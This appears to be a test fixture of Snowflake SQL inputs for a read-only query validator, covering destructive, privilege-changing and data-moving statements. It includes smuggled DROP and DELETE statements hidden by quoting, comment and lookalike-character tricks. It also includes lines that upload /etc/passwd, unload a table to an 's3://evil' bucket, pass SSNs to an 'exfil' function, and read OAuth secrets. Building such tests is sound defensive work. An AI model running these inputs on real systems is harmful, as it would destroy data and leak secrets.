EXECUTE IMMEDIATE $$DROP TABLE t$$
-- ;;
EXECUTE IMMEDIATE 'DELETE FROM t'
-- ;;
EXECUTE IMMEDIATE FROM @stage/file.sql
-- ;;
CALL my_procedure(1)
-- ;;
COPY INTO @my_stage FROM (SELECT * FROM t)
-- ;;
COPY INTO t FROM @my_stage
-- ;;
RM @my_stage
-- ;;
REMOVE @my_stage/path
-- ;;
PUT file:///etc/passwd @my_stage
-- ;;
  put file:///tmp/x @~
-- ;;
GET @my_stage file:///tmp
-- ;;
/* c */ GET @~/x file:///tmp/
-- ;;
-- comment
PUT file:///tmp/x @%t
-- ;;
GRANT ROLE accountadmin TO USER me
-- ;;
REVOKE SELECT ON t FROM ROLE r
-- ;;
USE ROLE accountadmin
-- ;;
USE WAREHOUSE big
-- ;;
USE DATABASE d
-- ;;
EXECUTE TASK my_task
-- ;;
UNDROP TABLE t
-- ;;
SET x = 1
-- ;;
SET (a, b) = (1, 2)
-- ;;
UNSET x
-- ;;
COMMENT ON TABLE t IS 'x'
-- ;;
WITH p AS PROCEDURE () RETURNS INT LANGUAGE SQL AS $$ BEGIN DROP TABLE t; RETURN 1; END $$ CALL p()
-- ;;
WITH p AS PROCEDURE () RETURNS STRING LANGUAGE PYTHON RUNTIME_VERSION = '3.11' HANDLER = 'h' PACKAGES = ('snowflake-snowpark-python') AS 'def h(s): return 1' CALL p()
-- ;;
SHOW TABLES ->> DELETE FROM t
-- ;;
SHOW TABLES ->> SELECT 1 FROM $1 ->> DROP TABLE t
-- ;;
DELETE FROM t ->> SELECT * FROM $1
-- ;;
SELECT 1 ->> INSERT INTO t SELECT * FROM $1
-- ;;
SELECT 1 ->> CREATE TABLE x AS SELECT * FROM $1
-- ;;
SELECT 1 ->>
-- ;;
->> DROP TABLE t
-- ;;
SELECT 1 ->> ->> DROP TABLE t
-- ;;
SELECT SYSTEM$CANCEL_ALL_QUERIES(1)
-- ;;
SELECT SYSTEM$CANCEL_QUERY('8e5d0ca9-005e-44e6-b858-a8f5b37c5726')
-- ;;
SELECT system$abort_session(1)
-- ;;
SELECT "SYSTEM$CANCEL_ALL_QUERIES"(1)
-- ;;
SELECT SYSTEM$SEND_EMAIL('int', 'a@b.c', 's', 'b')
-- ;;
SELECT SYSTEM$PIPE_FORCE_RESUME('p')
-- ;;
SELECT SYSTEM$WAIT(60)
-- ;;
SELECT SYSTEM$EXPLAIN_PLAN_JSON('DROP TABLE t')
-- ;;
SELECT a FROM t WHERE SYSTEM$CANCEL_ALL_QUERIES(1) = 'x'
-- ;;
SELECT 1; DROP TABLE t
-- ;;
SELECT 1;
/**/DROP TABLE t
-- ;;
SELECT 1; -- x
DELETE FROM t;
-- ;;
SELECT 1 /* /* */ ; DROP TABLE t -- */
-- ;;
/* /* */ SELECT 1 AS a -- */ DROP TABLE t
-- ;;
SELECT 'a\\'; DROP TABLE t; --'
-- ;;
SELECT 'a''' ; DROP TABLE t --'
-- ;;
SELECT $$a$$; DROP TABLE t; SELECT $$b$$
-- ;;
SELECT '$$'; DROP TABLE t; SELECT '$$'
-- ;;
SELECT $A$ ; DROP TABLE t; SELECT $A$
-- ;;
SELECT a$$ ; DROP TABLE t; SELECT b$$ FROM t
-- ;;
SELECT 1 // x
; DROP TABLE t
-- ;;
SELECT * FROM @s//x ; DROP TABLE t
-- ;;
SELECT * FROM @s//x
-- ;;
SELECT * FROM @my_stage/data.csv (FILE_FORMAT => 'f')
-- ;;
SELECT $1 FROM @~/secret.csv
-- ;;
SELECT $1 FROM @%t
-- ;;
SELECT * FROM @"db"."s".stage/path
-- ;;
SELECT * FROM '@my_stage/data.csv'
-- ;;
SELECT * FROM t JOIN '@my_stage/data.csv' s
-- ;;
SELECT * FROM 's3://bucket/path'
-- ;;
SELECT * FROM DIRECTORY(@my_stage)
-- ;;
SELECT METADATA$FILENAME FROM @s
-- ;;
LIST @my_stage
-- ;;
LS @~
-- ;;
SELECT 1 FROM t FOR UPDATE
-- ;;
SELECT * FROM t FOR  /* x */  UPDATE
-- ;;
SELECT a INTO b FROM t
-- ;;
SELECT a INTO :b FROM t
-- ;;
INSERT INTO t VALUES (1)
-- ;;
INSERT OVERWRITE INTO t SELECT * FROM u
-- ;;
INSERT ALL INTO t1 INTO t2 SELECT * FROM u
-- ;;
UPDATE t SET a = 1
-- ;;
DELETE FROM t WHERE a = 1
-- ;;
MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE
-- ;;
TRUNCATE TABLE t
-- ;;
TRUNCATE t
-- ;;
CREATE TABLE t (a INT)
-- ;;
CREATE OR REPLACE TABLE t AS SELECT 1
-- ;;
CREATE TEMPORARY TABLE t AS SELECT 1
-- ;;
CREATE VIEW v AS SELECT 1
-- ;;
CREATE FUNCTION f() RETURNS INT AS '1'
-- ;;
CREATE USER u PASSWORD = 'x'
-- ;;
ALTER SESSION SET TIMEZONE = 'UTC'
-- ;;
ALTER USER me SET PASSWORD = 'x'
-- ;;
ALTER TABLE t ADD COLUMN b INT
-- ;;
ALTER WAREHOUSE w RESUME
-- ;;
DROP TABLE t
-- ;;
drop
database
d
-- ;;
(DROP TABLE t)
-- ;;
((DELETE FROM t))
-- ;;
WITH a AS (SELECT 1) DELETE FROM t
-- ;;
WITH a AS (SELECT 1) INSERT INTO t SELECT * FROM a
-- ;;
WITH a AS (SELECT 1) UPDATE t SET x = 1
-- ;;
WITH a AS (SELECT 1) MERGE INTO t USING a ON t.x = a.x WHEN MATCHED THEN DELETE
-- ;;
WITH x AS (DELETE FROM t) SELECT 1
-- ;;
WITH x AS (DELETE FROM t RETURNING a) SELECT * FROM x
-- ;;
WITH x AS (INSERT INTO t VALUES (1) RETURNING a) SELECT 1
-- ;;
WITH x AS (UPDATE t SET a = 1) SELECT 1
-- ;;
WITH x AS (MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE) SELECT 1
-- ;;
WITH x AS (SELECT 1), y AS (WITH z AS (DELETE FROM t) SELECT 1) SELECT * FROM y
-- ;;
SELECT * FROM (CREATE TABLE x AS SELECT 1)
-- ;;
SELECT * FROM (DELETE FROM t)
-- ;;
SELECT * FROM (INSERT INTO t VALUES (1))
-- ;;
SELECT (UPDATE t SET a = 1)
-- ;;
SELECT EXISTS(UPDATE t SET a = 1)
-- ;;
SELECT 1 WHERE 1 IN (DELETE FROM t)
-- ;;
SELECT 1 UNION (DELETE FROM t)
-- ;;
SELECT 1 UNION DELETE FROM t
-- ;;
EXPLAIN DELETE FROM t
-- ;;
EXPLAIN USING TEXT DROP TABLE t
-- ;;
EXPLAIN USING TABULAR INSERT INTO t SELECT 1
-- ;;
EXPLAIN EXPLAIN SELECT 1
-- ;;
EXPLAIN WITH a AS (SELECT 1) DELETE FROM t
-- ;;
EXPLAIN SHOW TABLES
-- ;;
EXPLAIN
-- ;;
EXPLAIN SELECT 1; DROP TABLE t
-- ;;
BEGIN DROP TABLE t; RETURN 'x'; END
-- ;;
BEGIN
 DELETE FROM t;
END
-- ;;
BEGIN
-- ;;
BEGIN TRANSACTION
-- ;;
BEGIN WORK
-- ;;
START TRANSACTION
-- ;;
COMMIT
-- ;;
ROLLBACK
-- ;;
DECLARE x INT; BEGIN RETURN 1; END
-- ;;
LET x := 1
-- ;;
IF (1 = 1) THEN DROP TABLE t; END IF
-- ;;
FOR x IN c DO DROP TABLE t; END FOR
-- ;;
RETURN TABLE(res)
-- ;;
SELECT my_udf(1)
-- ;;
SELECT db.s.my_udf(1)
-- ;;
SELECT "my_udf"(1)
-- ;;
SELECT public.sum(1)
-- ;;
SELECT "sum"(1)
-- ;;
SELECT * FROM TABLE(my_proc())
-- ;;
SELECT * FROM TABLE(db.s.my_udtf(1, 'x'))
-- ;;
SELECT * FROM my_udtf(1)
-- ;;
SELECT * FROM t, LATERAL my_udtf(t.a)
-- ;;
SELECT * FROM t, TABLE(my_udtf(t.a) OVER (PARTITION BY t.b))
-- ;;
SELECT TRANSFORM(a, x -> my_udf(x)) FROM t
-- ;;
SELECT SUM(my_external_function(a)) OVER (PARTITION BY b) FROM t
-- ;;
SELECT a FROM t ORDER BY my_udf(a)
-- ;;
SELECT a FROM t QUALIFY my_udf(a) = 1
-- ;;
SELECT CASE WHEN my_udf(a) THEN 1 END FROM t
-- ;;
SELECT * FROM t PIVOT(my_udf(a) FOR b IN ('x'))
-- ;;
SELECT v[my_udf(1)] FROM t
-- ;;
SELECT {'a': my_udf(1)}
-- ;;
SELECT seq.NEXTVAL
-- ;;
SELECT db.s.seq.nextval FROM t
-- ;;
SELECT seq."NEXTVAL" FROM t
-- ;;
SELECT s.nextval FROM t, TABLE(GETNEXTVAL(seq)) s
-- ;;
SELECT GET_PRESIGNED_URL(@my_stage, 'x')
-- ;;
SELECT GET_PRESIGNED_URL('@my_stage', 'x')
-- ;;
SELECT BUILD_SCOPED_FILE_URL('@s', 'x')
-- ;;
SELECT BUILD_STAGE_FILE_URL('@s', 'x')
-- ;;
SELECT GET_STAGE_LOCATION('@s'), GET_ABSOLUTE_PATH('@s', 'x')
-- ;;
SELECT TO_FILE('@s', 'x')
-- ;;
SELECT * FROM TABLE(INFER_SCHEMA(LOCATION => '@s', FILE_FORMAT => 'f'))
-- ;;
SELECT * FROM TABLE(VALIDATE(t, JOB_ID => '_last'))
-- ;;
SELECT * FROM TABLE(RESULT_SCAN('8e5d0ca9-005e-44e6-b858-a8f5b37c5726'))
-- ;;
SELECT * FROM TABLE(RESULT_SCAN($qid))
-- ;;
SELECT * FROM TABLE(RESULT_SCAN(:1))
-- ;;
SELECT * FROM TABLE(RESULT_SCAN(CONCAT('a', LAST_QUERY_ID())))
-- ;;
SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID(), 'x'))
-- ;;
SELECT * FROM TABLE(result_scan((SELECT query_id FROM q)))
-- ;;
DESCRIBE RESULT '8e5d0ca9-005e-44e6-b858-a8f5b37c5726'
-- ;;
SELECT * FROM IDENTIFIER('secret_table')
-- ;;
SELECT * FROM IDENTIFIER($t)
-- ;;
SELECT * FROM IDENTIFIER(:1)
-- ;;
SELECT IDENTIFIER('col') FROM t
-- ;;
SELECT IDENTIFIER('my_udf')(1)
-- ;;
SELECT * FROM TABLE(IDENTIFIER('my_udtf')(1))
-- ;;
SELECT * FROM "IDENTIFIER"('x')
-- ;;
SELECT * FROM TABLE(:1)
-- ;;
SELECT * FROM TABLE($t)
-- ;;
SELECT * FROM TABLE('secret_table')
-- ;;
SELECT * FROM TABLE(?)
-- ;;
SELECT * FROM TABLE(TO_QUERY('DROP TABLE t'))
-- ;;
SELECT * FROM TABLE(TO_QUERY(SQL => 'SELECT 1'))
-- ;;
SELECT * FROM TO_QUERY('x')
-- ;;
SELECT AI_COMPLETE('claude', 'hi')
-- ;;
SELECT SNOWFLAKE.CORTEX.COMPLETE('m', 'p')
-- ;;
SELECT AI_CLASSIFY(text, ['a', 'b']) FROM t
-- ;;
SELECT * FROM t WHERE AI_FILTER(CONCAT('is it good? ', a))
-- ;;
SELECT SNOWFLAKE.CORTEX.SEARCH_PREVIEW('s', '{}')
-- ;;
SELECT SNOWFLAKE.ML.FORECAST(1)
-- ;;
SELECT my_model!PREDICT(a) FROM t
-- ;;
SELECT * FROM TABLE(my_model!FORECAST(FORECASTING_PERIODS => 3))
-- ;;
CALL my_model!FORECAST(3)
-- ;;
CALL SYSTEM$SEND_SNOWFLAKE_NOTIFICATION('x', 'y')
-- ;;
SHOW TABLES; DROP TABLE t
-- ;;
SHOW TABLES DELETE FROM t
-- ;;
SHOW TABLES (DELETE FROM t)
-- ;;
SHOW TABLES IN SCHEMA IDENTIFIER('x')
-- ;;
SHOW TABLES LIKE (SELECT 'x')
-- ;;
SHOW (SELECT 1)
-- ;;
SHOW
-- ;;
SHOW MAGIC
-- ;;
(SHOW TABLES)
-- ;;
WITH a AS (SELECT 1) SHOW TABLES
-- ;;
DESCRIBE TABLE t; DROP TABLE t
-- ;;
DESCRIBE DROP TABLE t
-- ;;
DESC TABLE IDENTIFIER('x')
-- ;;
DESCRIBE
-- ;;
DESCRIBE SELECT 1
-- ;;
DESC TABLE t (SELECT 1)
-- ;;
TABLE t
-- ;;
FROM t SELECT *
-- ;;
PRAGMA database_list
-- ;;
ATTACH 'x.db'
-- ;;
INSTALL httpfs
-- ;;
SUMMARIZE t
-- ;;
ABORT QUERY 'x'
-- ;;
DESCRIBE TABLE t ->> UPDATE t SET a = 1
-- ;;
;
-- ;;
/* nothing */
-- ;;
-- nothing
-- ;;
SELECT 'unterminated
-- ;;
SELECT "unterminated FROM t
-- ;;
SELECT 1 /* unterminated
-- ;;
SELECT $$unterminated
-- ;;
SELECT (1
-- ;;
SELECT 1)
-- ;;
SELECT [1)
-- ;;
SELECT 1 FROM t \g
-- ;;
SELECT `a` FROM t
-- ;;
SELECT E'a\'; DROP TABLE t --'
-- ;;
SELECT N'x', U&'\0041'
-- ;;
SELECT DISTINCT
-- ;;
ſelect 1
-- ;;
ＳＥＬＥＣＴ 1
-- ;;
DRОP TABLE t
-- ;;
SELECT * FROM read_csv('/etc/passwd')
-- ;;
SELECT * FROM read_parquet('s3://x')
-- ;;
SELECT getenv('HOME')
-- ;;
SELECT * FROM glob('*')
-- ;;
SELECT query('SELECT 1')
-- ;;
SELECT * FROM query_table('t')
-- ;;
SELECT pg_sleep(10)
-- ;;
SELECT * FROM t; SELECT * FROM u
-- ;;
SELECT 1 SELECT 2
-- ;;
SELECT 1 DROP TABLE t
-- ;;
SELECT 1 INSERT INTO t VALUES (1)
-- ;;
SELECT * FROM t CLUSTER BY my_udf(a)
-- ;;
SELECT * FROM t LIMIT my_udf(1)
-- ;;
SELECT * FROM t AT(TIMESTAMP => my_udf(1))
-- ;;
SELECT * FROM t SAMPLE (my_udf(1))
-- ;;
SELECT * FROM a ASOF JOIN b MATCH_CONDITION (a.x >= my_udf(b.x))
-- ;;
SELECT * FROM a JOIN b ON my_udf(a.x) = b.x
-- ;;
VALUES (my_udf(1))
-- ;;
SELECT * FROM VALUES (my_udf(1))
-- ;;
SELECT a AS b, my_udf(b) OVER () FROM t GROUP BY my_udf(a)
-- ;;
SELECT SUM(a) OVER (PARTITION BY my_udf(b) ORDER BY c) FROM t
-- ;;
SELECT LISTAGG(a, ',') WITHIN GROUP (ORDER BY my_udf(a)) FROM t
-- ;;
SELECT a FROM t START WITH my_udf(a) = 1 CONNECT BY PRIOR a = b
-- ;;
SELECT * FROM t MATCH_RECOGNIZE(ORDER BY a MEASURES my_udf(a) AS x PATTERN (u+) DEFINE u AS a > 1)
-- ;;
SELECT * FROM t MATCH_RECOGNIZE(ORDER BY a MEASURES MATCH_NUMBER() AS x PATTERN (u+) DEFINE u AS my_udf(a))
-- ;;
SELECT * REPLACE (my_udf(a) AS a) FROM t
-- ;;
SELECT INTERVAL my_udf(1) DAY
-- ;;
SELECT EXTRACT(YEAR FROM my_udf(1)), TRIM(my_udf(1)), CAST(my_udf(1) AS INT)
-- ;;
SELECT * FROM SEMANTIC_VIEW(v DIMENSIONS a METRICS my_udf(b))
-- ;;
SELECT /*+ hint */ my_udf(1) -- SELECT 1
-- ;;
SELECT * FROM (SHOW TABLES)
-- ;;
SELECT * FROM (DESCRIBE TABLE t)
-- ;;
SELECT * FROM (CALL my_procedure())
-- ;;
SELECT * FROM TABLE(CALL my_procedure())
-- ;;
WITH x AS (CALL my_procedure()) SELECT * FROM x
-- ;;
WITH x AS (COPY INTO t FROM @s) SELECT 1
-- ;;
SELECT * FROM (EXECUTE IMMEDIATE 'DROP TABLE t')
-- ;;
SELECT (COMMIT)
-- ;;
SELECT 1 ->> CALL my_procedure()
-- ;;
SELECT 1 ->> USE ROLE accountadmin
-- ;;
SHOW TABLES ->> SET x = 1
-- ;;
SELECT 1 ->> SELECT my_udf(1) FROM $1
-- ;;
SELECT 1 ->> SELECT * FROM TABLE(RESULT_SCAN('8e5d0ca9-005e-44e6-b858-a8f5b37c5726'))
-- ;;
SELECT IDENTIFIER ('x')
-- ;;
SELECT * FROM identifier/**/('x')
-- ;;
SELECT * FROM TABLE (my_proc ())
-- ;;
SELECT * FROM LATERAL my_udtf(1)
-- ;;
SELECT {fn my_udf(1)}
-- ;;
SELECT * FROM UNNEST(my_udf(1))
-- ;;
SELECT CONVERT(my_udf(1), INT)
-- ;;
SELECT my_udf(*) FROM t
-- ;;
SELECT my_udf(DISTINCT a) FROM t
-- ;;
SELECT my_udf(a => 1)
-- ;;
SELECT [my_udf(1)], (1, 2)
-- ;;
SELECT -my_udf(1), NOT my_udf(2)
-- ;;
SELECT a FROM t WHERE a LIKE my_udf(1) ESCAPE 'x'
-- ;;
SELECT a FROM t WHERE a BETWEEN 1 AND my_udf(1)
-- ;;
SELECT a FROM t WHERE my_udf(a) IS NULL
-- ;;
SELECT a FROM t WHERE a IN (1, my_udf(1))
-- ;;
SELECT a FROM t WHERE a ILIKE ANY ('x', my_udf(1))
-- ;;
SELECT TOP my_udf(1) * FROM t
-- ;;
SELECT a FROM t LIMIT (SELECT my_udf(1))
-- ;;
SELECT a FROM t GROUP BY ROLLUP (my_udf(a))
-- ;;
SELECT a FROM t GROUP BY GROUPING SETS ((my_udf(a)), ())
-- ;;
SELECT * FROM t, LATERAL FLATTEN(my_udf(1))
-- ;;
SELECT * FROM t, LATERAL FLATTEN(INPUT => my_udf(1))
-- ;;
SELECT * FROM TABLE(GENERATOR(ROWCOUNT => my_udf(1)))
-- ;;
SELECT * FROM s PIVOT(SUM(a) FOR b IN (SELECT my_udf(1)))
-- ;;
SELECT * FROM s PIVOT(SUM(a) FOR b IN ('x') DEFAULT ON NULL (my_udf(1)))
-- ;;
SELECT "system$wait"(1)
-- ;;
SELECT SYSTEM$TYPEOF(my_udf(1))
-- ;;
SELECT system$whitelist()
-- ;;
SELECT SYSTEM$SHOW_OAUTH_CLIENT_SECRETS('I')
-- ;;
SELECT SYSTEM$GENERATE_SCIM_ACCESS_TOKEN('OKTA')
-- ;;
SELECT FIRST(1), CLASSIFIER()
-- ;;
EXPLAIN USING HTML SELECT 1
-- ;;
EXPLAIN ANALYZE SELECT 1
-- ;;
SELECT * FROM TABLE(INFORMATION_SCHEMA.MY_FUNCTION(1))
-- ;;
SELECT * FROM TABLE("information_schema".QUERY_HISTORY())
-- ;;
SELECT * FROM TABLE(a.b.INFORMATION_SCHEMA.QUERY_HISTORY())
-- ;;
SELECT * FROM t AT(STATEMENT => my_udf(1))
-- ;;
SELECT * FROM t CHANGES(INFORMATION => my_udf(1)) AT(OFFSET => -1)
-- ;;
SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID(my_udf(1))))
-- ;;
SELECT * FROM TABLE("RESULT_SCAN"('8e5d0ca9-005e-44e6-b858-a8f5b37c5726'))
-- ;;
SHOW GRANTS ON FUNCTION IDENTIFIER('x')
-- ;;
SHOW TABLES LIKE 'a' 'b'
-- ;;
SHOW TABLES WHERE name = 'x'
-- ;;
SHOW SECRETS SELECT 1
-- ;;
DESC FUNCTION f((SELECT 1))
-- ;;
USE SECONDARY ROLES ALL
-- ;;
ALTER SESSION UNSET QUERY_TAG
-- ;;
LOCK TABLE t
-- ;;
ANALYZE t
-- ;;
COPY FILES INTO @a FROM @b
-- ;;
CREATE STAGE s
-- ;;
CREATE TASK t AS DELETE FROM x
-- ;;
CREATE OR REPLACE PROCEDURE p() RETURNS INT AS $$ 1 $$
-- ;;
SELECT seq . NEXTVAL
-- ;;
SELECT (SELECT seq./**/nextval)
-- ;;
SELECT a FROM t WHERE b = s.NextVal
-- ;;
SELECT "AI_COMPLETE"('m', 'p')
-- ;;
SELECT a, AI_AGG(b, 'x') FROM t GROUP BY a
-- ;;
SELECT "SNOWFLAKE"."CORTEX"."COMPLETE"('m', 'p')
-- ;;
SELECT * FROM SNOWFLAKE.CORTEX.SENTIMENT('x')
-- ;;
WITH RECURSIVE p AS PROCEDURE () RETURNS INT AS $$ BEGIN RETURN 1; END $$ CALL p()
-- ;;
WITH a AS (SELECT 1), p AS PROCEDURE () RETURNS INT AS 'x' CALL p()
-- ;;
WITH a AS (SELECT 1) CALL my_procedure()
-- ;;
WITH a AS (SELECT 1) EXECUTE IMMEDIATE 'x'
-- ;;
SELECT 1 FROM t FOR SHARE
-- ;;
SELECT * FROM t PREWHERE a = 1
-- ;;
SELECT a INTO TEMP b FROM t
-- ;;
SELECT * FROM t FOR JSON AUTO
-- ;;
SELECT * FROM t FORMAT JSON
-- ;;
SELECT * FROM t SETTINGS max_threads = 1
-- ;;
INSERT INTO t SELECT 1 ->> SELECT 1
-- ;;
MERGE INTO t USING (SELECT 1 AS a) s ON t.a = s.a WHEN NOT MATCHED THEN INSERT VALUES (1)
-- ;;
DELETE FROM t USING u WHERE t.id = u.id
-- ;;
CREATE TABLE t CLONE u
-- ;;
GRANT OWNERSHIP ON TABLE t TO ROLE r
-- ;;
EXECUTE ALERT a
-- ;;
DESCRIBE TABLE t ->> EXECUTE IMMEDIATE 'x'
-- ;;
SELECT x.y!z(1)
-- ;;
SELECT * FROM t; ;; DROP TABLE u
-- ;;
SELECT a FROM t OFFSET (SELECT my_udf(1))
-- ;;
SELECT a FROM t x (SELECT INT)
-- ;;
SELECT a FROM t LIMIT (a my_udf(1))
-- ;;
SELECT 1::my_udf(1)
-- ;;
SELECT CAST(1 AS my_udf(1))
-- ;;
SELECT a FROM t LIMIT (my_udf(a))
-- ;;
WITH my_udf(a) AS (SELECT 1) SELECT my_udf(a) FROM t
-- ;;
SELECT * FROM t AS x (a, b), my_udtf(a)
-- ;;
SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))
-- ;;
SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID(-2))) WHERE "name" LIKE 'A%'
-- ;;
DESCRIBE RESULT LAST_QUERY_ID()
-- ;;
SELECT CEILING(1.5)
-- ;;
SELECT CHAR_LENGTH('x')
-- ;;
SELECT TO_HEX(1)
-- ;;
SELECT SYSTEM$CANCEL_ALL_QUERIES(CURRENT_SESSION())
-- ;;
SELECT SYSTEM$ABORT_SESSION(123)
-- ;;
SELECT SYSTEM$ABORT_TRANSACTION(1)
-- ;;
SELECT SYSTEM$SEND_EMAIL('i', 'a@b.c', 's', 'b')
-- ;;
SELECT SYSTEM$SEND_SNOWFLAKE_NOTIFICATION('x', 'y')
-- ;;
SELECT SYSTEM$TASK_DEPENDENTS_ENABLE('t')
-- ;;
SELECT SYSTEM$USER_TASK_CANCEL_ONGOING_EXECUTIONS('t')
-- ;;
SELECT SYSTEM$GLOBAL_ACCOUNT_SET_PARAMETER('a', 'b', 'c')
-- ;;
SELECT SYSTEM$SET_RETURN_VALUE('x')
-- ;;
SELECT SYSTEM$GET_PREDECESSOR_RETURN_VALUE()
-- ;;
SELECT SYSTEM$GENERATE_SCIM_ACCESS_TOKEN('x')
-- ;;
SELECT SYSTEM$REGISTER_PRIVATELINK_ENDPOINT('a', 'b', 'c')
-- ;;
SELECT SYSTEM$CREATE_BILLING_EVENT('a', 'b')
-- ;;
SELECT SYSTEM$EXECUTE_SQL('drop table t')
-- ;;
SELECT SYSTEM$QUERY_REFERENCE('select 1')
-- ;;
SELECT SYSTEM$REFERENCE('TABLE', 't', 'SESSION', 'INSERT')
-- ;;
SELECT "SYSTEM$WAIT"(10)
-- ;;
SELECT system$wait(10) FROM t
-- ;;
SELECT a, (SELECT SYSTEM$CANCEL_QUERY('x')) FROM t
-- ;;
SELECT * FROM t WHERE SYSTEM$CANCEL_QUERY('x') = 'ok'
-- ;;
SELECT * FROM t ORDER BY SYSTEM$CANCEL_QUERY('x')
-- ;;
SELECT * FROM t QUALIFY ROW_NUMBER() OVER (ORDER BY SYSTEM$WAIT(1)) = 1
-- ;;
SELECT COUNT(*) FROM t GROUP BY SYSTEM$WAIT(1)
-- ;;
SELECT * FROM t LIMIT SYSTEM$WAIT(1)
-- ;;
SELECT seq1.NEXTVAL
-- ;;
SELECT db.s.seq1.nextval FROM t
-- ;;
SELECT "SEQ1".NEXTVAL
-- ;;
SELECT s.nextval FROM TABLE(GETNEXTVAL(seq1)) s
-- ;;
SELECT * FROM TABLE(GETNEXTVAL(seq1))
-- ;;
SELECT my_external_fn(a) FROM t
-- ;;
SELECT db.s.exfil(ssn) FROM customers
-- ;;
SELECT * FROM TABLE(db.s.my_proc('x'))
-- ;;
SELECT * FROM TABLE(my_udtf(1)) OVER (PARTITION BY a)
-- ;;
SELECT t.*, u.* FROM t, TABLE(my_udtf(t.a)) u
-- ;;
SELECT AI_COMPLETE('mistral-large', 'hello')
-- ;;
SELECT SNOWFLAKE.CORTEX.COMPLETE('m', 'x')
-- ;;
SELECT AI_CLASSIFY(a, ['x', 'y']) FROM t
-- ;;
SELECT snowflake.cortex.sentiment(r) FROM reviews
-- ;;
SELECT * FROM TABLE(SNOWFLAKE.CORTEX.FINETUNE('CREATE', 'x'))
-- ;;
SELECT my_model!PREDICT(INPUT_DATA => x) FROM t
-- ;;
CALL my_model!FORECAST(FORECASTING_PERIODS => 3)
-- ;;
SELECT * FROM TABLE(my_model!FORECAST(3))
-- ;;
SELECT TO_QUERY('drop table t')
-- ;;
SELECT * FROM TABLE(TO_QUERY('SELECT 1'))
-- ;;
SELECT * FROM TABLE(TO_QUERY(SQL => 'delete from t'))
-- ;;
SELECT * FROM IDENTIFIER('t')
-- ;;
SELECT IDENTIFIER('my_fn')(1)
-- ;;
SELECT * FROM TABLE(IDENTIFIER($x))
-- ;;
SELECT * FROM TABLE($my_table)
-- ;;
SELECT * FROM TABLE('db.s.t')
-- ;;
SELECT IDENTIFIER(:col) FROM t
-- ;;
SELECT * FROM TABLE(RESULT_SCAN('01b2c3d4-0000-1111-2222-333344445555'))
-- ;;
SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID(-2)))
-- ;;
SELECT * FROM TABLE(result_scan(?))
-- ;;
SELECT * FROM @my_stage
-- ;;
SELECT $1, $2 FROM @%orders (FILE_FORMAT => 'csv')
-- ;;
SELECT * FROM 's3://bucket/file.csv'
-- ;;
SELECT METADATA$FILENAME FROM '@my_stage/x'
-- ;;
SELECT BUILD_SCOPED_FILE_URL(@s, 'x')
-- ;;
SELECT GET_PRESIGNED_URL(@s, 'x', 3600)
-- ;;
SELECT GET_STAGE_LOCATION(@s)
-- ;;
SELECT BUILD_STAGE_FILE_URL(@s, 'x')
-- ;;
SELECT TO_FILE('@s/x.png')
-- ;;
INSERT ALL INTO a INTO b SELECT * FROM c
-- ;;
INSERT FIRST WHEN x > 1 THEN INTO a ELSE INTO b SELECT x FROM c
-- ;;
UPDATE t SET a = 1 FROM u WHERE t.id = u.id
-- ;;
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
-- ;;
TRUNCATE TABLE IF EXISTS t
-- ;;
CREATE OR REPLACE TABLE t AS SELECT * FROM u
-- ;;
CREATE TEMPORARY TABLE x CLONE t
-- ;;
CREATE DATABASE d CLONE prod
-- ;;
CREATE NETWORK POLICY p ALLOWED_IP_LIST = ('0.0.0.0/0')
-- ;;
CREATE SHARE s
-- ;;
ALTER SESSION SET QUERY_TAG = 'x'
-- ;;
ALTER ACCOUNT SET ALLOW_ID_TOKEN = TRUE
-- ;;
ALTER USER me SET RSA_PUBLIC_KEY = 'x'
-- ;;
ALTER WAREHOUSE w SET WAREHOUSE_SIZE = 'XXLARGE'
-- ;;
ALTER TASK t RESUME
-- ;;
ALTER TABLE t SWAP WITH u
-- ;;
DROP SCHEMA s CASCADE
-- ;;
DROP TABLE t ->> SELECT 1
-- ;;
SHOW TABLES ->> CREATE TABLE x AS SELECT * FROM $1
-- ;;
SELECT 1 ->> CALL p()
-- ;;
SELECT 1 ->> EXECUTE IMMEDIATE 'x'
-- ;;
SHOW TABLES ->> SELECT my_udf("name") FROM $1
-- ;;
EXPLAIN INSERT INTO t SELECT 1
-- ;;
EXPLAIN USING TEXT CREATE TABLE x AS SELECT 1
-- ;;
EXPLAIN SELECT my_udf(1)
-- ;;
EXPLAIN CALL p()
-- ;;
BEGIN; SELECT 1; COMMIT
-- ;;
BEGIN DROP TABLE t; RETURN 1; END
-- ;;
BEGIN LET x := 1; RETURN x; END
-- ;;
DECLARE x INT; BEGIN DELETE FROM t; END
-- ;;
EXECUTE IMMEDIATE :x
-- ;;
EXECUTE NOTEBOOK nb()
-- ;;
EXECUTE SERVICE IN COMPUTE POOL p FROM SPECIFICATION $$x$$
-- ;;
EXECUTE JOB SERVICE IN COMPUTE POOL p
-- ;;
EXECUTE DBT PROJECT p
-- ;;
CALL SYSTEM$SEND_EMAIL('a', 'b', 'c', 'd')
-- ;;
CALL SNOWFLAKE.CORTEX_ANALYST.X()
-- ;;
WITH x AS PROCEDURE() RETURNS TABLE() LANGUAGE SQL AS $$ SELECT 1 $$ CALL x()
-- ;;
WITH f AS FUNCTION(a INT) RETURNS INT AS 'a' SELECT f(1)
-- ;;
COPY INTO 's3://evil/x' FROM t
-- ;;
UNLOAD ('select 1')
-- ;;
USE SCHEMA other
-- ;;
UNDROP DATABASE d
-- ;;
DESCRIBE RESULT '01b2c3d4-0000-1111-2222-333344445555'
-- ;;
SELECT 1;;DROP TABLE t
-- ;;
SELECT 1 /* ; */ ; /* */ DELETE FROM t
-- ;;
SELECT 'a\'; DROP TABLE t; --'; DROP TABLE u
-- ;;
SELECT '\\'; DROP TABLE t --'
-- ;;
SELECT $$ $$; DROP TABLE t; $$ $$
-- ;;
SELECT "a""; "; DROP TABLE t --"
-- ;;
SELECT * FROM t FOR UPDATE
-- ;;
SELECT a INTO :x FROM t
-- ;;
SELECT a INTO new_table FROM t
-- ;;
SELECT * FROM (DELETE FROM t RETURNING *)
-- ;;
WITH x AS (INSERT INTO t VALUES (1)) SELECT * FROM x
-- ;;
